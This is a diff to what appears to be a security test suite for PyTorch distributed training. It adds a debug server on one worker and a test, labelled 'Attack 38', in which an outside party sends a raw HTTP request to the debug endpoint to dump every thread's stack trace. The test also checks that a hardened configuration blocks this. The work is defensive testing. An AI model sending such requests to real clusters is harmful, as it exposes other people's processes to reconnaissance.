@@ -75,6 +75,14 @@ for name in os.listdir("/proc/self/fd"):
 rows = [line.split() for line in open("/proc/self/net/tcp")][1:]
 listens = [row[1] for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in inodes]
 
+try:
+    from torch.distributed import debug
+    if rank == 1:  # rank 0 starts a front end too, which needs packages that torch does not bring
+        debug.start_debug_server()
+    debugging = debug._WORKER_SERVER.port if rank == 1 else 0
+except Exception as error:
+    debugging = getattr(error, "code", repr(error))
+
 def say(name, value):
     with open(f"{folder}/{name}.part", "w") as file:
         json.dump(value, file)
@@ -82,7 +90,7 @@ def say(name, value):
 
 say(f"rank-{rank}", {
     "pid": os.getpid(), "store": [os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"])],
-    "listens": listens, "environ": dict(os.environ),
+    "listens": listens, "environ": dict(os.environ), "debug": debugging,
 })
 number = 1
 while not os.path.exists(f"{folder}/stop"):
@@ -466,6 +474,19 @@ def test_connections_that_gloo_keeps(scene):
 
 def num_descriptors(pid: int) -> int:
     return sum(1 for _ in Path(f"/proc/{pid}/fd").iterdir())
+
+
+def test_what_the_debug_server_tells_everybody(scene):
+    """Attack 38: the stack of every thread, over HTTP."""
+    where = (str(scene.members[1].address), scene.stock.rank(1)["debug"])
+    with scene.stranger.namespace.entered():
+        peer = socket.create_connection(where, 20)
+    with peer:
+        request = "POST /handler/dump_traceback HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
+        peer.sendall(f"{request}Connection: close\r\n\r\n".encode())
+        answered = b"".join(iter(lambda: peer.recv(1 << 16), b""))
+    assert b"job.py" in answered, answered[:500]
+    assert scene.ours.rank(1)["debug"] == "ST-RUNT-006"
 
 
 def test_what_another_user_of_the_machine_reads(scene):
